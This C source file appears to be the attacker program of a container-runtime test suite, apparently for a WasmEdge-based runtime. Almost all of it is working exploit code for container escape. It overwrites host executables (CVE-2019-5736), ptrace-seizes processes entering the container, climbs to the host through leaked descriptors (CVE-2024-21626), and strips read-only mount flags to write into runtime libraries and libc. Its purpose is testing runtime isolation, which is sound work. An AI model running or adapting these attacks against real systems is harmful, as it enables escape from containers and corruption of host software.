/*
 * What an attacker runs, inside a container that it owns or (swap) beside it: a static program for the suite's attacks.
 * Each verb prints a word when it is ready, and a line in capitals when it got what it wanted.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static struct timespec until;

static void start(const char *seconds, const char *word)
{
	clock_gettime(CLOCK_MONOTONIC, &until);
	until.tv_sec += atoi(seconds);
	printf("%s\n", word);
	fflush(stdout);
}

static int time_left(void)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec < until.tv_sec;
}

static int end(void)
{
	printf("done\n");
	return 0;
}

/* "swap A B SECONDS": exchanges two names as fast as it can, with RENAME_EXCHANGE. */
static int swap(const char *a, const char *b, const char *seconds)
{
	start(seconds, "swapping");
	while (time_left())
		for (int i = 0; i < 1000; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2))
				return perror("renameat2"), 1;
	return end();
}

/* Where a link of procfs leads; empty if that can't be seen. */
static const char *target_of(const char *link)
{
	static char target[4096];
	ssize_t n = readlink(link, target, sizeof target - 1);
	target[n < 0 ? 0 : n] = 0;
	return target;
}

/* Whether an executable is one of the container's own, which may be written to. */
static int is_own(const char *exe)
{
	return !*exe || strstr(exe, "busybox") || strstr(exe, "/attack") || strstr(exe, "/probe");
}

/* A descriptor of the executable of a process that is none of the container's, as long as there is time. */
static int foreign_executable(void)
{
	char path[64];

	while (time_left())
		for (int pid = 1; pid < 600; pid++) {
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int fd = pid == getpid() ? -1 : open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
			if (!is_own(target_of(path)))
				return fd;
			close(fd);
		}
	return -1;
}

/*
 * "overwrite SECONDS" (CVE-2019-5736): takes hold of the executable of whatever enters this container, and writes to it once
 * that runs no longer.
 */
static int overwrite(const char *seconds)
{
	char path[64];
	int fd;

	start(seconds, "watching");
	while ((fd = foreign_executable()) >= 0) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		for (int i = 0; i < 3000; i++) {
			int w = open(path, O_WRONLY | O_CLOEXEC);
			if (w >= 0 && write(w, "#!/owned\n", 9) == 9)
				printf("WROTE %s\n", target_of(path)), fflush(stdout);
			if (w >= 0)
				break;
		}
		close(fd);
	}
	return end();
}

/* "occupy SECONDS": holds the executable of whatever enters, and is about to write to it all the time. Says why it can't. */
static int occupy(const char *seconds)
{
	char path[64];
	int said = 0;

	start(seconds, "watching");
	int fd = foreign_executable();
	if (fd < 0)
		return fprintf(stderr, "nothing came\n"), 1;
	printf("holding\n");
	fflush(stdout);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	while (time_left())
		for (int i = 0; i < 1000; i++) {
			int w = open(path, O_WRONLY | O_CLOEXEC);
			if (w >= 0)
				close(w);
			else if (said != errno)
				printf("%s: %s\n", target_of(path), strerror(said = errno)), fflush(stdout);
		}
	return end();
}

/* What the line of /proc/PID/status says that begins with `key`; null if there is none. */
static char *status_of(int pid, const char *key)
{
	static char text[8192];
	char path[64], *line;

	snprintf(path, sizeof path, "/proc/%d/status", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	close(fd);
	text[n < 0 ? 0 : n] = 0;
	line = strstr(text, key);
	return line ? line + strlen(key) : 0;
}

/* "trace SECONDS" (CVE-2016-9962): stops whatever enters this container before it is one of its programs. */
static int trace(const char *seconds)
{
	char path[64], exe[4096];

	start(seconds, "watching");
	while (time_left())
		for (int pid = 2; pid < 600; pid++) {
			if (pid == getpid() || ptrace(PTRACE_SEIZE, pid, 0, 0))
				continue;
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			waitpid(pid, 0, __WALL);
			/* It stands still: what it executes now is what it was caught in. */
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			strcpy(exe, target_of(path));
			if (!is_own(exe)) {
				snprintf(path, sizeof path, "/proc/%d/mem", pid);
				int mem = open(path, O_RDWR | O_CLOEXEC);
				printf("TRACED %s, its memory is %s\n", exe, mem < 0 ? "closed" : "open");
				fflush(stdout);
				close(mem);
			}
			ptrace(PTRACE_DETACH, pid, 0, 0);
		}
	return end();
}

/* Whether MARKER, a path of the host, is reached from `dir` by going up as far as it goes. */
static int climbs(int dir, const char *marker)
{
	int found = -1;

	dir = openat(dir, ".", O_PATH | O_DIRECTORY | O_CLOEXEC);
	for (int i = 0; dir >= 0 && i < 40; i++) {
		int up = openat(dir, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
		close(dir);
		dir = up;
	}
	if (dir >= 0)
		found = openat(dir, marker + 1, O_RDONLY | O_CLOEXEC);
	close(dir);
	if (found >= 0)
		close(found);
	return found >= 0;
}

/* "climb MARKER": the way to the host by the working directory or by a descriptor that was left open (CVE-2024-21626). */
static int climb(const char *marker)
{
	if (climbs(AT_FDCWD, marker))
		printf("REACHED the host by the working directory\n");
	for (int fd = 0; fd < 100; fd++)
		if (climbs(fd, marker))
			printf("REACHED the host by descriptor %d\n", fd);
	return end();
}

/*
 * "descend SECONDS NAME": makes a directory beside every directory that a process which enters has open: in a cgroup's
 * parent, say (CVE-2016-9962 with CAP_SYS_PTRACE, which a not dumpable process does not keep out).
 */
static int descend(const char *seconds, const char *name)
{
	char path[300], exe[64];
	struct stat own, root;

	stat("/", &own);
	start(seconds, "watching");
	while (time_left())
		for (int pid = 2; pid < 600; pid++) {
			snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
			if (pid == getpid() || is_own(target_of(exe)))
				continue;
			for (int fd = 3; fd < 40; fd++) {
				snprintf(path, sizeof path, "/proc/%d/fd/%d/../%s", pid, fd, name);
				if (!mkdir(path, 0755)) {
					snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
					printf("MADE a directory beside %s\n", target_of(path));
					fflush(stdout);
				}
			}
			snprintf(path, sizeof path, "/proc/%d/root", pid);
			if (!stat(path, &root) && (root.st_dev != own.st_dev || root.st_ino != own.st_ino))
				printf("REACHED the root of the host by %s\n", path), fflush(stdout);
		}
	return end();
}

/* Whether a path ends with the name of a part of the runtime or its engine, not of memory that is called so. */
static int is_part(const char *path)
{
	const char *name = strrchr(path, '/');

	return name && (!strncmp(name, "/lib", 4) || !strncmp(name, "/ld", 3) || !strncmp(name, "/proa", 5));
}

/* Opens for writing what is found at `path`, a link of procfs or below one; with `text`, that is written to its end. */
static void engrave_on(const char *path, const char *target, const char *text)
{
	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);

	if (fd >= 0 && (!text || write(fd, text, strlen(text)) > 0))
		printf("WROTE %s by %s\n", target, path), fflush(stdout);
	if (fd >= 0)
		close(fd);
}

/* All links in a directory of procfs. How many lead to parts of the runtime or its engine. */
static int engrave_each(const char *dir, const char *text)
{
	static const char *const parts[] = { "libwasmedge.so.0", "libc.so.6", "proa-wasmedge" };
	char path[512], below[600], target[4096];
	struct dirent *entry;
	struct stat what;
	int seen = 0;
	DIR *d = opendir(dir);

	while (d && (entry = readdir(d))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "%s/%s", dir, entry->d_name);
		strcpy(target, target_of(path));
		if (is_part(target)) {
			seen++;
			engrave_on(path, target, text);
		} else if (strstr(dir, "/fd") && !stat(path, &what) && S_ISDIR(what.st_mode)) {
			/* A mount that is read-only may be made writable again, by who may mount. */
			struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
			syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &writable, sizeof writable);
			for (unsigned i = 0; i < sizeof parts / sizeof *parts; i++) {
				snprintf(below, sizeof below, "%s/%s", path, parts[i]);
				engrave_on(below, parts[i], text);
			}
		}
	}
	if (d)
		closedir(d);
	return seen;
}

/*
 * "engrave SECONDS [TEXT]": opens for writing, and writes to, all that others have mapped or open of the runtime and its engine,
 * at least once. Says how many mappings of those it has seen at most.
 */
static int engrave(const char *seconds, const char *text)
{
	char path[300];
	int most = 0;

	start(seconds, "watching");
	do {
		int seen = 0;
		for (int pid = 1; pid < 600; pid++) {
			if (pid == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%d/map_files", pid);
			seen += engrave_each(path, text);
			snprintf(path, sizeof path, "/proc/%d/fd", pid);
			engrave_each(path, text);
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			if (is_part(target_of(path)))
				engrave_on(path, "an executable", text);
		}
		if (seen > most)
			most = seen;
	} while (time_left());
	printf("seen %d\n", most);
	return end();
}

/* Whether process `pid` has something open beside its standard streams that is a file or a directory. */
static int has_files(int pid)
{
	char path[64];
	struct stat facts;

	for (int fd = 3; fd < 64; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		if (!stat(path, &facts) && (S_ISDIR(facts.st_mode) || S_ISREG(facts.st_mode)))
			return fd;
	}
	return 0;
}

/* The number that a file of procfs is. */
static int number_in(const char *path)
{
	char text[32] = "";
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd >= 0 && read(fd, text, sizeof text - 1) < 0)
		*text = 0;
	close(fd);
	return atoi(text);
}

/*
 * "seize SECONDS SECCOMP": stops whatever becomes visible, dumpable or not, which takes CAP_SYS_PTRACE, and looks for what this
 * process has not got itself. SECCOMP is the mode that it has to be in (2: filtered). A process is looked at before its
 * program runs.
 */
static int seize(const char *seconds, int seccomp)
{
	static const char *sets[] = { "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:" };
	char path[64], exe[4096], *line;
	unsigned long long own = 0, all, mine;
	struct rlimit own_files, files;
	int caught = 0, said = 0;

	if ((line = status_of(getpid(), "CapBnd:")))
		own = strtoull(line, 0, 16);
	getrlimit(RLIMIT_NOFILE, &own_files);
	start(seconds, "watching");
	while (time_left())
		for (int pid = 2; pid < 600; pid++) {
			if (pid == getpid() || ptrace(PTRACE_SEIZE, pid, 0, 0))
				continue;
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			if (waitpid(pid, 0, __WALL) != pid)
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			strcpy(exe, target_of(path));
			if (!is_own(exe)) {
				if (!caught++)
					printf("caught %s\n", exe);
				all = 0;
				for (int i = 0; i < 5; i++)
					if ((line = status_of(pid, sets[i])))
						all |= strtoull(line, 0, 16);
				mine = all & ~own;
				if (mine && !said++)
					printf("REACHED the capabilities %#llx of %s\n", mine, exe);
				if ((line = status_of(pid, "Seccomp:")) && atoi(line) < seccomp && !said++)
					printf("REACHED a process without the filter\n");
				if (has_files(pid) && !said++)
					printf("REACHED descriptor %d\n", has_files(pid));
				if (!prlimit(pid, RLIMIT_NOFILE, 0, &files) && files.rlim_max > own_files.rlim_max && !said++)
					printf("REACHED the limits of the caller\n");
				snprintf(path, sizeof path, "/proc/%d/oom_score_adj", pid);
				if (number_in(path) != number_in("/proc/self/oom_score_adj") && !said++)
					printf("REACHED the oom_score_adj %d\n", number_in(path));
				fflush(stdout);
			}
			ptrace(PTRACE_DETACH, pid, 0, 0);
		}
	return end();
}

/* "nest DIR DEPTH": makes cgroups in each other, with the longest names, and has a process in the last. */
static int nest(const char *dir, int depth)
{
	char name[256] = "";

	memset(name, 'n', 255);
	if (chdir(dir))
		return perror(dir), 1;
	for (int i = 0; i < depth; i++)
		if (mkdir(name, 0755) || chdir(name))
			return fprintf(stderr, "cgroup %d: %s\n", i, strerror(errno)), 1;
	int fd = open("cgroup.procs", O_WRONLY | O_CLOEXEC);
	if (!fork()) {
		if (write(fd, "0", 1) != 1)
			return perror("cgroup.procs"), 1;
		printf("nested\n");
		fflush(stdout);
		pause();
	}
	pause();
	return 0;
}

/* "unnest DIR": removes what is nested in DIR. */
static int unnest(const char *dir)
{
	char name[256] = "";
	int depth = 0;

	memset(name, 'n', 255);
	if (chdir(dir))
		return perror(dir), 1;
	while (!chdir(name))
		depth++;
	for (; depth > 0; depth--)
		if (chdir("..") || rmdir(name))
			return fprintf(stderr, "cgroup %d: %s\n", depth, strerror(errno)), 1;
	return 0;
}

/* What descriptor FD of PID gives: a way to MARKER, or, but for the standard streams, a file that can be written to. */
static void try_descriptor(int pid, const char *fd, const char *marker)
{
	char path[300], target[4096];
	struct statfs where;
	struct stat what;

	snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, fd);
	strcpy(target, target_of(path));
	if (stat(path, &what) || !strncmp(target, "/memfd:", 7))
		return;
	if (S_ISDIR(what.st_mode)) {
		int dir = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (climbs(dir, marker))
			printf("REACHED the host by %s, which is %s\n", path, target), fflush(stdout);
		close(dir);
	} else if (S_ISREG(what.st_mode) && atoi(fd) > 2 && !statfs(path, &where) && where.f_type != 0x9fa0) {
		/* Not procfs, where what can be opened can't be written to for that. */
		int file = open(path, O_WRONLY | O_CLOEXEC);
		if (file >= 0)
			printf("REACHED %s for writing by %s\n", target, path), fflush(stdout);
		close(file);
	}
}

/*
 * "seek SECONDS MARKER": stops each process that is none of the container's programs, and tries all that it has open. It is
 * let go on a little at a time, so that it is seen at many steps.
 */
static int seek(const char *seconds, const char *marker)
{
	char path[64];

	start(seconds, "watching");
	for (int said = 0; time_left();) {
		int seen = 0;
		for (int pid = 1; pid < 600; pid++) {
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			if (pid == getpid() || is_own(target_of(path)) || ptrace(PTRACE_SEIZE, pid, 0, 0))
				continue;
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			waitpid(pid, 0, __WALL);
			snprintf(path, sizeof path, "/proc/%d/fd", pid);
			DIR *all = opendir(path);
			for (struct dirent *one; all && (one = readdir(all));)
				if (*one->d_name != '.')
					try_descriptor(pid, one->d_name, marker);
			if (all)
				closedir(all);
			ptrace(PTRACE_DETACH, pid, 0, 0);
			seen = 1;
		}
		if (seen && said++ < 1000)
			printf("looked\n"), fflush(stdout);
	}
	return end();
}

/* "connect PATH": to a socket of the host, as anybody. */
static int connect_to(const char *path)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);

	strncpy(a.sun_path, path, sizeof a.sun_path - 1);
	if (connect(s, (void *)&a, sizeof a))
		return perror(path), 1;
	printf("CONNECTED\n");
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (!strcmp(what, "swap") && argc > 4)
		return swap(argv[2], argv[3], argv[4]);
	if (!strcmp(what, "overwrite") && argc > 2)
		return overwrite(argv[2]);
	if (!strcmp(what, "occupy") && argc > 2)
		return occupy(argv[2]);
	if (!strcmp(what, "trace") && argc > 2)
		return trace(argv[2]);
	if (!strcmp(what, "climb") && argc > 2)
		return climb(argv[2]);
	if (!strcmp(what, "descend") && argc > 3)
		return descend(argv[2], argv[3]);
	if (!strcmp(what, "engrave") && argc > 2)
		return engrave(argv[2], argc > 3 ? argv[3] : 0);
	if (!strcmp(what, "seize") && argc > 3)
		return seize(argv[2], atoi(argv[3]));
	if (!strcmp(what, "nest") && argc > 3)
		return nest(argv[2], atoi(argv[3]));
	if (!strcmp(what, "unnest") && argc > 2)
		return unnest(argv[2]);
	if (!strcmp(what, "seek") && argc > 3)
		return seek(argv[2], argv[3]);
	if (!strcmp(what, "connect") && argc > 2)
		return connect_to(argv[2]);
	fprintf(stderr, "attack: what is \"%s\"?\n", what);
	return 2;
}
